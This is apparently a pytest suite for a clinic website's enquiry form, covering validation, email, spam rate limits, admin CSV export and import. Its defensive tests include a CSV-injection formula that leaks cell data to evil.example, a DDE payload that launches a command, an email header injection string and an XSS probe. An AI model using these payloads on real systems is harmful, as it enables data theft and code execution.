"""The enquiry page: what visitors fill in, what is refused, stored and emailed, and what
the clinic's staff see under Forms in the admin."""

import csv
import io
import logging
import smtplib
from pathlib import Path
from unittest import mock

import pytest
from django.contrib.auth.models import Group
from django.contrib.sessions.models import Session
from django.core import mail
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client, override_settings
from django.test.utils import CaptureQueriesContext
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import PageViewRestriction
from wagtail.test.utils import WagtailPageTestCase
from wagtail.test.utils.form_data import nested_form_data, rich_text

from clinicsite import environment
from home import limits
from home.models import EnquiryPage, HomePage
from tests.site.test_page_queries import BUDGETS
from tests.treatments.factories import build_indexes, default_site, make_treatment, publish, soup
from treatments.models import ClinicSettings

DEMO_CONTACT = Path(__file__).resolve().parents[2] / "demo" / "contact.md"
CLINIC_EMAIL = "hello@clinic.example"

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fresh_rate_limit():
    """The rate limit lives in the cache, and in memory for outages, which outlive a test."""
    cache.clear()
    limits.in_memory.clear()
    yield
    cache.clear()
    limits.in_memory.clear()


@pytest.fixture
def clinic(home_page):
    treatments, _ = build_indexes(home_page)
    ClinicSettings.objects.update_or_create(
        site=default_site(), defaults={"email": CLINIC_EMAIL, "phone": "020 7946 0321"}
    )
    return {
        "massage": make_treatment(treatments, "Facial massage"),
        "needling": make_treatment(treatments, "Microneedling"),
        "draft": make_treatment(treatments, "Chemical peel", live=False),
        "page": publish(
            home_page,
            EnquiryPage(
                title="Contact us",
                slug="contact",
                intro="<p>Ask us anything.</p>",
                thank_you_text="<p>We reply within one working day.</p>",
            ),
        ),
    }


def good_data(**changes):
    data = {
        "name": "Jane Doe",
        "email": "jane@example.com",
        "phone": "",
        "treatment": "microneedling",
        "message": "Is it suitable for acne scars?",
        "consent": "on",
        "topic": "",
    }
    data.update(changes)
    return {key: value for key, value in data.items() if value is not None}


def options(response):
    select = soup(response).select_one("select[name=treatment]")
    return [(o["value"], o.get_text(), o.has_attr("selected")) for o in select.select("option")]


# --- The form -------------------------------------------------------------------


def test_form_offers_the_live_public_treatments_and_not_sure_but_no_drafts(client, clinic):
    private = make_treatment(clinic["massage"].get_parent(), "Members-only facial")
    PageViewRestriction.objects.create(page=private, restriction_type="login")
    response = client.get("/contact/")
    assert response.status_code == 200
    assert [(value, label) for value, label, _ in options(response)] == [
        ("", "Not sure yet"),
        ("facial-massage", "Facial massage"),
        ("microneedling", "Microneedling"),
    ]
    # A draft or private treatment posted anyway is refused with a clear message.
    response = client.post("/contact/", good_data(treatment="chemical-peel"))
    assert "That treatment is not on offer at the moment" in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_treatment_address_preselects_the_treatment(client, clinic):
    selected = [
        v for v, _, chosen in options(client.get("/contact/?treatment=microneedling")) if chosen
    ]
    assert selected == ["microneedling"]
    for unknown in ("chemical-peel", "no-such-thing"):
        selected = [
            v for v, _, chosen in options(client.get(f"/contact/?treatment={unknown}")) if chosen
        ]
        assert selected == [""], unknown  # "Not sure yet"


def test_a_treatment_page_links_to_the_form_with_itself_chosen(client, clinic):
    link = soup(client.get(clinic["needling"].url)).select_one(".ask-about a")
    assert link.get_text(strip=True) == "Ask us a question about Microneedling"
    assert link["href"] == "/contact/?treatment=microneedling"
    chosen = [v for v, _, selected in options(client.get(link["href"])) if selected]
    assert chosen == ["microneedling"]


def test_no_question_link_while_the_form_is_unpublished(client, clinic):
    clinic["page"].unpublish()
    assert soup(client.get(clinic["needling"].url)).select_one(".ask-about") is None


def test_the_honeypot_is_hidden_from_people_and_assistive_technology(client, clinic):
    html = soup(client.get("/contact/"))
    trap = html.select_one("input[name=topic]")
    wrapper = trap.find_parent("div")
    assert wrapper["aria-hidden"] == "true" and "enquiry-trap" in wrapper["class"]
    assert trap["tabindex"] == "-1" and trap["autocomplete"] == "off"
    assert html.select_one("label[for=id_topic]").get_text() == "Leave this field empty"
    css = (Path(__file__).resolve().parents[2] / "site/static/css/clinic.css").read_text()
    assert ".enquiry-trap" in css


def test_errors_are_shown_per_field_and_everything_typed_is_kept(client, clinic):
    response = client.post(
        "/contact/",
        good_data(name="", email="jane.example.com", consent=None, message="Evenings suit me."),
    )
    assert response.status_code == 200
    assert not FormSubmission.objects.exists() and not mail.outbox
    html = soup(response)
    assert html.title.get_text().startswith("Error: ")
    summary = html.select_one(".error-summary")
    assert summary["role"] == "alert"
    assert [a["href"] for a in summary.select("a")] == ["#id_name", "#id_email", "#id_consent"]
    expected = {
        "name": "Enter your name, so we know who we are replying to.",
        "email": "Enter an email address like name@example.com.",
        "consent": "Tick the box to let us contact you: without it we cannot reply.",
    }
    for name, message in expected.items():
        field = html.select_one(f"#id_{name}")
        assert field["aria-invalid"] == "true", name
        assert f"id_{name}_error" in field["aria-describedby"].split(), name
        assert message in html.select_one(f"#id_{name}_error").get_text(), name
    assert not html.select_one("#id_phone").has_attr("aria-invalid")
    # What was typed is still there.
    assert html.select_one("#id_email")["value"] == "jane.example.com"
    assert html.select_one("#id_message").get_text().strip() == "Evenings suit me."
    assert [v for v, _, chosen in options(response) if chosen] == ["microneedling"]


def test_an_email_or_a_phone_number_is_needed(client, clinic):
    response = client.post("/contact/", good_data(email=""))
    error = soup(response).select_one("#id_email_error").get_text()
    assert "Enter an email address or a phone number (or both), so we can reply." in error
    assert not FormSubmission.objects.exists()

    response = client.post("/contact/", good_data(email="", phone="call me maybe"))
    assert "Enter a phone number using digits" in soup(response).select_one("#id_phone_error").text

    response = client.post("/contact/", good_data(email="", phone="020 7946 0000"))
    assert response.status_code == 302
    submission = FormSubmission.objects.get()
    assert submission.form_data["phone"] == "020 7946 0000"
    assert mail.outbox[0].reply_to == []  # no visitor email to reply to


def test_a_too_long_message_is_refused_and_kept(client, clinic):
    text = "I have a question." * 200
    response = client.post("/contact/", good_data(message=text))
    html = soup(response)
    assert html.select_one("#id_message_error").get_text() == (
        "Error: Please keep your message under 3,000 characters (it has 3600). "
        "We can talk through the details when we reply."
    )
    # No maxlength: the browser would have cut the pasted text without a word.
    assert not html.select_one("#id_message").has_attr("maxlength")
    assert html.select_one("#id_message").get_text().strip() == text


def test_csrf_is_checked(clinic):
    browser = Client(enforce_csrf_checks=True)
    assert browser.post("/contact/", good_data()).status_code == 403
    token = soup(browser.get("/contact/")).select_one("input[name=csrfmiddlewaretoken]")["value"]
    assert browser.post("/contact/", good_data(csrfmiddlewaretoken=token)).status_code == 302
    assert FormSubmission.objects.count() == 1


# --- A good enquiry ---------------------------------------------------------------


def test_a_good_enquiry_is_stored_emailed_and_thanked_once(client, clinic):
    response = client.post("/contact/", good_data())
    assert response.status_code == 302
    assert response["Location"] == "/contact/thanks/?treatment=microneedling"

    submission = FormSubmission.objects.get()
    assert submission.page_id == clinic["page"].pk
    assert submission.form_data == {
        "name": "Jane Doe",
        "email": "jane@example.com",
        "phone": "",
        "treatment": "Microneedling",
        "message": "Is it suitable for acne scars?",
        "consent": "Yes",
    }
    [email] = mail.outbox
    assert email.to == [CLINIC_EMAIL]
    assert email.reply_to == ["jane@example.com"]
    assert email.subject == "New enquiry from the website: Jane Doe"
    assert "Treatment of interest: Microneedling" in email.body
    assert "Is it suitable for acne scars?" in email.body
    assert f"/admin/forms/submissions/{clinic['page'].pk}/" in email.body

    thanks = client.get(response["Location"])
    html = soup(thanks)
    assert html.h1.get_text() == "Thank you: your enquiry has been sent"
    assert html.select_one(".lede strong").get_text() == "Microneedling"
    assert "We reply within one working day." in html.get_text()
    assert html.select_one("form.enquiry-form") is None
    assert html.select_one("meta[name=robots]")["content"] == "noindex"
    # Refreshing the thank-you page sends nothing again.
    client.get(response["Location"])
    assert FormSubmission.objects.count() == 1 and len(mail.outbox) == 1


def test_not_sure_yet_is_stored_and_thanked_without_a_treatment(client, clinic):
    response = client.post("/contact/", good_data(treatment=""), follow=True)
    assert FormSubmission.objects.get().form_data["treatment"] == "Not sure yet"
    html = soup(response)
    assert html.h1.get_text() == "Thank you: your enquiry has been sent"
    assert html.select_one(".lede") is None


def test_line_breaks_in_a_name_cannot_reach_the_email_headers(client, clinic):
    client.post("/contact/", good_data(name="Jane\r\nBcc: everyone@example.com"))
    assert FormSubmission.objects.get().form_data["name"] == "Jane Bcc: everyone@example.com"
    assert mail.outbox[0].subject == "New enquiry from the website: Jane Bcc: everyone@example.com"
    assert mail.outbox[0].bcc == []


def test_the_page_address_overrides_the_clinic_address(client, clinic):
    page = clinic["page"]
    page.to_address = "bookings@clinic.example"
    page.subject = "Booking request"
    page.save_revision().publish()
    client.post("/contact/", good_data())
    assert mail.outbox[0].to == ["bookings@clinic.example"]
    assert mail.outbox[0].subject == "Booking request: Jane Doe"


@override_settings(ENQUIRY_EMAIL_TO="fallback@clinic.example")
def test_the_setting_is_used_when_the_clinic_has_no_email(client, clinic):
    ClinicSettings.objects.filter(site=default_site()).update(email="")
    client.post("/contact/", good_data())
    assert mail.outbox[0].to == ["fallback@clinic.example"]


@override_settings(ENQUIRY_EMAIL_TO="")
def test_with_no_address_anywhere_the_enquiry_is_stored_and_a_warning_logged(
    client, clinic, caplog
):
    ClinicSettings.objects.filter(site=default_site()).update(email="")
    with caplog.at_level(logging.WARNING, logger="home.forms"):
        response = client.post("/contact/", good_data())
    assert response.status_code == 302
    assert FormSubmission.objects.count() == 1 and not mail.outbox
    assert "stored but not emailed: no clinic address is set" in caplog.text


def test_a_mail_failure_loses_nothing(client, clinic, caplog):
    down = smtplib.SMTPServerDisconnected("Connection unexpectedly closed")
    with (
        mock.patch("django.core.mail.backends.locmem.EmailBackend.send_messages", side_effect=down),
        caplog.at_level(logging.ERROR, logger="home.forms"),
    ):
        response = client.post("/contact/", good_data(treatment=""))
    assert response.status_code == 302 and response["Location"] == "/contact/thanks/"
    assert FormSubmission.objects.count() == 1
    assert f"emailing it to {CLINIC_EMAIL} failed" in caplog.text


# --- Spam -------------------------------------------------------------------------


def test_a_filled_honeypot_is_thanked_but_neither_stored_nor_emailed(client, clinic):
    response = client.post("/contact/", good_data(topic="https://cheap-pills.example"))
    assert response.status_code == 302 and response["Location"] == "/contact/thanks/"
    assert soup(client.get("/contact/thanks/")).h1.get_text() == (
        "Thank you: your enquiry has been sent"
    )
    assert not FormSubmission.objects.exists() and not mail.outbox


def test_sending_writes_no_session_so_robots_cannot_fill_the_session_table(client, clinic):
    for number in range(3):
        client.post("/contact/", good_data(topic=f"https://spam-{number}.example"))
    client.post("/contact/", good_data())
    assert not Session.objects.exists()


def test_the_thank_you_page_names_only_a_live_treatment(client, clinic):
    def named(treatment):
        strong = soup(client.get(f"/contact/thanks/?treatment={treatment}")).select_one(
            ".lede strong"
        )
        return strong.get_text() if strong else None

    assert named("facial-massage") == "Facial massage"
    assert named("chemical-peel") is None  # a draft
    assert named("<script>alert(1)</script>") is None


def test_form_and_thank_you_pages_are_never_cached(client, clinic):
    for path in ("/contact/", "/contact/thanks/"):
        assert "no-store" in client.get(path)["Cache-Control"], path


@override_settings(ENQUIRY_RATE_LIMIT=3)
def test_only_enquiries_that_pass_validation_count_towards_the_limit(client, clinic):
    for _ in range(5):
        assert client.post("/contact/", good_data(email="", phone="")).status_code == 200
    for number in range(3):
        assert client.post("/contact/", good_data(name=f"Visitor {number}")).status_code == 302
    assert FormSubmission.objects.count() == 3


@override_settings(ENQUIRY_RATE_LIMIT=3)
def test_over_the_rate_limit_nothing_is_stored_and_everything_typed_is_kept(client, clinic):
    for number in range(3):
        assert client.post("/contact/", good_data(name=f"Visitor {number}")).status_code == 302
    response = client.post("/contact/", good_data(name="One too many", phone="07700 900123"))
    assert response.status_code == 429
    assert FormSubmission.objects.count() == 3 and len(mail.outbox) == 3
    html = soup(response)
    summary = html.select_one(".error-summary").get_text()
    assert "Your enquiry has not been sent" in summary
    assert "Please try again later or call us on 020 7946 0321" in summary
    assert html.select_one("#id_name")["value"] == "One too many"
    assert html.select_one("#id_phone")["value"] == "07700 900123"
    assert html.select_one("#id_message").get_text().strip() == "Is it suitable for acne scars?"
    assert html.select_one("#id_consent").has_attr("checked")
    # Someone else is not affected.
    other = client.post("/contact/", good_data(), REMOTE_ADDR="192.0.2.44")
    assert other.status_code == 302 and FormSubmission.objects.count() == 4


@override_settings(ENQUIRY_RATE_LIMIT=1, ENQUIRY_CLIENT_IP_HEADER="HTTP_X_FORWARDED_FOR")
def test_behind_a_proxy_the_limit_is_per_visitor_not_per_proxy(client, clinic):
    def post(forwarded):
        return client.post("/contact/", good_data(), HTTP_X_FORWARDED_FOR=forwarded).status_code

    assert post("198.51.100.7") == 302
    assert post("198.51.100.8") == 302  # another visitor through the same proxy
    # A visitor cannot dodge the limit by sending their own header: the proxy's hop is last.
    assert post("203.0.113.1, 198.51.100.7") == 429
    # Junk in the header falls back to the connection's address (the test client's).
    assert post("not an address " * 50) == 302
    assert post("") == 429


UNREACHABLE_REDIS = environment.caches({"REDIS_URL": "redis://127.0.0.1:9/0"})


@override_settings(ENQUIRY_RATE_LIMIT=3)
def test_during_a_redis_outage_an_address_at_its_limit_stays_limited(client, clinic):
    for number in range(3):
        assert client.post("/contact/", good_data(name=f"Visitor {number}")).status_code == 302
    with override_settings(CACHES=UNREACHABLE_REDIS):
        statuses = [client.post("/contact/", good_data()).status_code for _ in range(8)]
    assert statuses == [429] * 8
    assert FormSubmission.objects.count() == 3


@override_settings(ENQUIRY_RATE_LIMIT=3)
def test_during_a_redis_outage_each_process_still_counts_per_address(client, clinic):
    with override_settings(CACHES=UNREACHABLE_REDIS):
        statuses = [client.post("/contact/", good_data()).status_code for _ in range(5)]
        other = client.post("/contact/", good_data(), REMOTE_ADDR="192.0.2.44").status_code
    assert statuses == [302, 302, 302, 429, 429]
    assert other == 302  # someone else is not affected
    assert FormSubmission.objects.count() == 4


# --- Admin ------------------------------------------------------------------------


class EnquiryAdminTests(WagtailPageTestCase):
    def setUp(self):
        self.home = default_site().root_page.specific
        self.treatments, _ = build_indexes(self.home)
        make_treatment(self.treatments, "Microneedling")
        self.user = self.login()

    def form_data(self, **fields):
        data = {
            "title": "Contact us",
            "slug": "contact",
            "intro": rich_text("<p>Ask us anything.</p>"),
            "thank_you_text": rich_text("<p>We will call you back.</p>"),
            "to_address": "",
            "subject": "Website enquiry",
        }
        data.update(fields)
        return nested_form_data(data)

    def test_editor_creates_the_enquiry_page_once_under_the_home_page(self):
        self.assertCanCreateAt(HomePage, EnquiryPage)
        self.assertAllowedParentPageTypes(EnquiryPage, {HomePage})
        self.assertAllowedSubpageTypes(EnquiryPage, set())
        self.assertCanCreate(self.home, EnquiryPage, self.form_data())
        page = EnquiryPage.objects.get(slug="contact")
        self.assertEqual(page.subject, "Website enquiry")
        # One per site: the home page offers no second one.
        self.assertFalse(EnquiryPage.can_create_at(self.home))
        html = soup(self.client.get("/contact/"))
        self.assertEqual(html.h1.get_text(), "Contact us")
        self.assertEqual(html.select_one(".lede").get_text().strip(), "Ask us anything.")

    def test_a_bad_recipient_address_is_refused_in_the_admin(self):
        response = self.client.post(
            f"/admin/pages/add/home/enquirypage/{self.home.pk}/",
            self.form_data(to_address="bookings at clinic"),
        )
        self.assertEqual(response.status_code, 200)
        self.assertFalse(EnquiryPage.objects.exists())
        self.assertContains(response, "Enter a valid email address.")

    def test_form_and_thank_you_page_are_previewable(self):
        page = publish(self.home, EnquiryPage(title="Contact us", slug="contact"))
        self.assertPageIsPreviewable(page, mode="form", post_data=self.form_data())
        self.assertPageIsPreviewable(page, mode="landing", post_data=self.form_data())

    def test_staff_see_enquiries_under_forms_and_export_them(self):
        page = publish(self.home, EnquiryPage(title="Contact us", slug="contact"))
        post = self.client_class().post  # an anonymous visitor
        data = good_data(phone="07700 900123", message="Saturday mornings, please.")
        self.assertEqual(post("/contact/", data).status_code, 302)

        forms = self.client.get("/admin/forms/")
        self.assertContains(forms, "Contact us")
        listing = soup(self.client.get(f"/admin/forms/submissions/{page.pk}/"))
        headings = [th.get_text(" ", strip=True) for th in listing.select("table thead th")]
        for label in ("Name", "Email", "Phone", "Treatment of interest", "Message"):
            self.assertIn(label, headings)
        row = listing.select_one("table tbody tr").get_text(" ", strip=True)
        for value in ("Jane Doe", "jane@example.com", "07700 900123", "Microneedling"):
            self.assertIn(value, row)
        self.assertIn("Saturday mornings, please.", row)

        export = self.client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
        self.assertEqual(
            rows[0],
            [
                "Submitted",
                "Name",
                "Email",
                "Phone",
                "Treatment of interest",
                "Message",
                "Agreed to be contacted",
            ],
        )
        self.assertEqual(
            rows[1][1:],
            [
                "Jane Doe",
                "jane@example.com",
                "07700 900123",
                "Microneedling",
                "Saturday mornings, please.",
                "Yes",
            ],
        )


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")',
    "phone": "+44 20 7946 0321",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def export_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_turns_formulas_a_visitor_typed_into_plain_text(client, clinic):
    """A spreadsheet would run a cell starting with = + - @, a tab or a carriage return."""
    page = clinic["page"]
    assert Client().post("/contact/", good_data(**FORMULAS)).status_code == 302
    # What the form itself cannot store (it trims the message, refuses such emails) but an
    # older enquiry or another form could hold.
    page.get_submission_class().objects.create(
        page=page,
        form_data={"name": "-2+3", "email": "\t=1+1", "phone": "", "message": "\r=1+1"},
    )
    manager = Group.objects.get(name="Site managers").user_set.create(username="sam")
    client.force_login(manager)
    rows = export_rows(client, f"/admin/forms/submissions/{page.pk}/?export=csv")
    by_name = {row[1]: row for row in rows[1:]}
    typed = by_name["'" + FORMULAS["name"]]
    assert typed[2] == "jane@example.com"  # ordinary values are untouched
    assert typed[3] == "'+44 20 7946 0321"
    assert typed[4] == "Microneedling"
    assert typed[5] == "'" + FORMULAS["message"]
    other = by_name["'-2+3"]
    assert other[2] == "'\t=1+1" and other[5] == "'\r=1+1"
    # Excel's own file keeps them as text cells already, unchanged.
    xlsx = client.get(f"/admin/forms/submissions/{page.pk}/?export=xlsx")
    assert xlsx.status_code == 200


# --- API, import, speed ---------------------------------------------------------------


def test_the_api_shows_the_visitor_facing_text_but_not_the_recipient(client, clinic):
    page = clinic["page"]
    page.to_address = "private-inbox@clinic.example"
    page.save_revision().publish()
    for url in (f"/api/clinic/v1/pages/{page.pk}/", f"/api/v2/pages/{page.pk}/"):
        body = client.get(url).content.decode()
        assert "Ask us anything." in body, url
        assert "private-inbox" not in body, url


def test_the_demo_enquiry_file_imports_intro_and_thank_you_text(client, home_page):
    call_command("import_content", str(DEMO_CONTACT), publish=True, stdout=io.StringIO())
    page = EnquiryPage.objects.get(slug="contact")
    assert page.live and page.show_in_menus
    assert "We read every message ourselves" in page.intro
    assert "Nothing is booked until you confirm one." in page.thank_you_text
    assert "Nothing is booked" not in page.intro and "Thank you" not in page.thank_you_text
    assert page.subject == "New enquiry from the Juniper website" and page.to_address == ""
    out = io.StringIO()
    call_command("import_content", str(DEMO_CONTACT), publish=True, stdout=out)
    assert "1 unchanged" in out.getvalue()
    assert client.get("/contact/").status_code == 200


def test_a_bad_send_to_address_stops_the_import(home_page, tmp_path):
    bad = tmp_path / "contact.md"
    bad.write_text(
        "---\ntype: enquiry\ntitle: Contact us\nsend_to: bookings at clinic\n---\n\nHi.\n"
    )
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_content", str(bad), stdout=io.StringIO(), stderr=err)
    assert "contact.md:4: `send_to` must be one email address" in err.getvalue()
    assert not EnquiryPage.objects.exists()


def test_the_form_page_has_a_fixed_query_budget(client, clinic):
    def queries():
        client.get("/contact/")  # warm per-process caches (content types, site root paths)
        with CaptureQueriesContext(connection) as captured:
            assert client.get("/contact/").status_code == 200
        return len(captured)

    before = queries()
    # 2 of them the form's (the treatment list and its privacy check); the rest are what
    # every page pays (tests/site/test_page_queries.py).
    assert before <= BUDGETS["enquiry page"].built
    for number in range(10):
        make_treatment(clinic["massage"].get_parent(), f"Treatment {number}")
    assert queries() == before
